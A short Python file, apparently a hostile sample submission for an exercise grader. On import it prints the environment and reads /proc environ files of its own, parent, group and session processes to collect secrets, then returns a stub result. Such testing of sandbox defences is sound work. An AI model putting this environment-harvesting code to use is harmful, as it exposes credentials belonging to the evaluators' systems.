"""Looks for secrets in every environment that it is given: its own and its parents'.

exercise: 03_gather
codes: wrong_result sequential import_error
"""

import os
from pathlib import Path

print(dict(os.environ), Path("/proc/self/environ").read_bytes())
for process in (os.getppid(), os.getpgid(0), os.getsid(0)):
    try:
        print(Path(f"/proc/{process}/environ").read_bytes())
    except OSError as error:
        print(error)


async def fetch_all(fetch, keys):
    return []
